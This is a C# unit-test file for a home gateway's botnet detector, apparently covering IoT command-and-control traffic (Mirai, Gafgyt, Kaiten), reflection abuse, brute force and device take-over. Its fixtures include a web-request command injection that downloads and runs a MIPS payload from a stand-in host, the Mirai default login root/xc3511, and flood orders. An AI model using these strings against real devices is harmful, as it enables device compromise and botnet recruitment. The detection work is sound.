using Gatehouse.Home;
using Gatehouse.Wire;
using Xunit;

namespace Gatehouse.Tests.Gateway.Watch;

/// <summary>Take-over, orders and mirrors: what is said on one conversation, carried out.</summary>
public sealed class CommandTests
{
    private const string Master = "198.51.100.66";
    private const TcpFlags Push = TcpFlags.Psh | TcpFlags.Ack;

    public static TheoryData<string, string, string[]> Talks => new()
    {
        // what, rule or "" for none, segments in turn, the Thing first
        { "Kaiten at an unusual port", "c2.irc", ["NICK [MIPS]x\r\nUSER x localhost localhost :x\r\n", ":irc 001 x :Welcome\r\n"] },
        { "Mirai", "c2.mirai", ["\0\0\0\u0001", "", "\u0004mips"] },
        { "Mirai without an id", "c2.mirai", ["\0\0\0\u0001", "", "\0"] },
        { "Gafgyt", "c2.text", ["BUILD MIPS:telnet\n", "!* SCANNER ON\n"] },
        { "Gafgyt, of which only the orders are seen", "c2.text", ["hello\n", "!* UDP 1.2.3.4 80 10\n"] },
        { "keep-alives in plain text", "c2.text", ["x", "PING\n", "PONG!\n", "PING\n", "PONG!\n"] },
        { "a page", "", ["GET / HTTP/1.1\r\nHost: x\r\n\r\n", "HTTP/1.1 200 OK\r\n\r\n"] },
        { "MQTT", "", ["\u0010\u0010\0\u0004MQTT", "\u0020\u0002\0\0", "\u00c0\0", "\u00d0\0"] },
        { "four bytes that are another protocol's", "", ["\0\0\0\u0001", "\u0001", "\u0009\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"] },
    };

    [Theory, MemberData(nameof(Talks))]
    public void A_master_is_known_by_what_is_said(string what, string rule, string[] segments)
    {
        var scene = new Scene();

        scene.Connection(Master, 4545, 40000, [.. segments.Select(System.Text.Encoding.Latin1.GetBytes)]);

        Assert.True(rule.Length == 0 ? !scene.Opened.Any() : scene.OpenedAt(rule) is not null, what);
    }

    [Fact]
    public void A_Thing_in_a_peer_to_peer_network_is_suspected_and_a_computer_is_not()
    {
        foreach (var (deviceClass, expected) in new[] { (DeviceClass.Thing, 1), (DeviceClass.Computer, 0) })
        {
            var scene = new Scene();
            scene.Engine.SetClass(Scene.ThingMac, deviceClass);
            scene.Repeat(1, 10, i => scene.UdpOut($"203.0.113.{i}", 30_000 + i, "d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe"u8.ToArray()));
            Assert.Equal(expected, scene.Opened.Count());
        }
    }

    [Fact]
    public void A_file_sharing_computer_taken_for_a_Thing_is_throttled_at_most()
    {
        var scene = new Scene();

        scene.Repeat(3, 600, i =>
        {
            scene.UdpOut($"{20 + i % 200}.{i % 250}.7.1", 10_000 + i * 97 % 50_000, "d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe"u8.ToArray(), 51413);
            scene.TcpOut($"{20 + i % 200}.{i * 3 % 250}.9.1", 10_000 + i * 89 % 50_000, TcpFlags.Syn, 1024 + i);
        });

        Assert.Equal([("c2.dht", Certainty.Suspected)], scene.Opened);
        Assert.Null(scene.CertainAt("c2.dht"));
    }

    [Fact]
    public void A_dead_master_is_told_from_a_dead_cloud_by_its_port_alone()
    {
        var master = new Scene();
        master.Repeat(0.15, 200, i => master.TcpOut(Master, 50, TcpFlags.Syn, 1024 + i));
        Assert.InRange(master.OpenedAt("c2.dead") ?? double.MaxValue, 0, 60);

        var cloud = new Scene();
        cloud.Repeat(0.15, 3600, i => cloud.TcpOut(Master, 8883, TcpFlags.Syn, 1024 + i));
        Assert.Empty(cloud.Opened);
    }

    [Theory, InlineData(1900, 20), InlineData(53, 20), InlineData(123, 20), InlineData(11211, 20), InlineData(53, 5)]
    public void A_Thing_that_answers_strangers_is_a_mirror(int port, double perSecond)
    {
        var scene = new Scene();
        scene.UdpOut("192.168.77.1", 53, new byte[20]); // it was seen before

        scene.Repeat(perSecond, 20, i =>
        {
            scene.UdpIn("203.0.113.99", 80, [1, 2, 3], port);
            scene.UdpOut("203.0.113.99", 80, new byte[500], port);
        });

        Assert.InRange(scene.OpenedAt("reflector.service") ?? double.MaxValue, 0, 10);
    }

    [Fact]
    public void A_Thing_that_asks_from_a_service_port_is_no_mirror()
    {
        var scene = new Scene();

        // An NTP client that asks from port 123, as the protocol's first versions did, every server of the pool in turn.
        scene.Repeat(1, 300, i =>
        {
            scene.UdpOut($"203.0.113.{i % 200}", 123, new byte[48], 123);
            scene.UdpIn($"203.0.113.{i % 200}", 123, new byte[48], 123);
        });

        Assert.Empty(scene.Opened);
    }

    [Fact]
    public void A_login_from_the_Internet_that_reaches_a_shell_is_a_take_over()
    {
        var scene = new Scene();
        Serve(scene, 23, ["login: ", "root\r\n", "Password: ", "xc3511\r\n"]);
        Assert.Empty(scene.Opened); // somebody tried; nobody got in yet

        scene.TcpOut(Master, 50000, Push, 23, payload: "# "u8.ToArray());

        Assert.Equal([("takeover.login", Certainty.Suspected)], scene.Opened);
    }

    [Fact]
    public void A_command_in_a_web_request_from_the_Internet_is_a_take_over()
    {
        var scene = new Scene();

        Serve(scene, 80, ["", "GET /setup.cgi?cmd=wget+http://198.51.100.66/m.mips+-O+/tmp/x;sh+/tmp/x HTTP/1.0\r\n\r\n"]);

        Assert.Equal([("takeover.login", Certainty.Suspected)], scene.Opened);
    }

    [Fact]
    public void A_call_to_a_stranger_right_after_a_stranger_was_at_its_SSH_is_a_take_over()
    {
        var scene = new Scene();
        Serve(scene, 22, [.. Enumerable.Repeat("some encrypted text", 30)]);
        Assert.Empty(scene.Opened);

        scene.Now += 20;
        scene.TcpOut("203.0.113.7", 80, TcpFlags.Syn);

        Assert.Equal([("takeover.login", Certainty.Suspected)], scene.Opened);
    }

    [Fact]
    public void Guessing_its_password_from_the_Internet_is_reported_and_the_Thing_is_never_cut_off_for_it()
    {
        var scene = new Scene();

        scene.Repeat(0.5, 120, i => Serve(scene, 22, ["SSH-2.0-x", "SSH-2.0-y", "a", "b", "c"], 30_000 + i));

        Assert.Equal([("bruteforce.inbound", Certainty.Suspected)], scene.Opened);
        Assert.Null(scene.CertainAt("bruteforce.inbound"));
    }

    [Fact]
    public void A_laptop_that_scans_pings_and_shares_files_is_shown_once_at_most_and_never_certain()
    {
        var scene = new Scene();
        scene.Engine.SetClass(Scene.ThingMac, DeviceClass.Computer);

        // nmap's thousand ports of one host, a video call through a VPN, a speed test.
        scene.Repeat(300, 4, i => scene.TcpOut("203.0.113.9", 1 + i, TcpFlags.Syn));
        scene.Repeat(400, 20, i => scene.IpOut("203.0.113.10", IpProtocol.Esp, new byte[900]));
        scene.UdpIn("203.0.113.11", 443, new byte[100]);
        scene.Repeat(3000, 5, i =>
        {
            scene.UdpOut("203.0.113.11", 443, new byte[1200]);
            if (i % 50 == 0) scene.UdpIn("203.0.113.11", 443, new byte[60]);
        });

        Assert.InRange(scene.Opened.Count(), 0, 1);
        Assert.All(scene.Verdicts, verdict => Assert.Equal(Certainty.Suspected, verdict.Certainty));
    }

    /// <summary>A conversation that a stranger begins; segments in turn, the Thing first.</summary>
    private static void Serve(Scene scene, int port, string[] segments, int strangersPort = 50000)
    {
        scene.TcpOut("192.168.77.1", 9, TcpFlags.Rst); // it was seen before
        scene.TcpIn(Master, strangersPort, TcpFlags.Syn, port);
        scene.TcpOut(Master, strangersPort, TcpFlags.Syn | TcpFlags.Ack, port);
        scene.TcpIn(Master, strangersPort, TcpFlags.Ack, port);
        for (var i = 0; i < segments.Length; i++)
        {
            var payload = System.Text.Encoding.Latin1.GetBytes(segments[i]);
            if (i % 2 == 0) scene.TcpOut(Master, strangersPort, Push, port, payload: payload);
            else scene.TcpIn(Master, strangersPort, Push, port, payload);
        }
    }
}
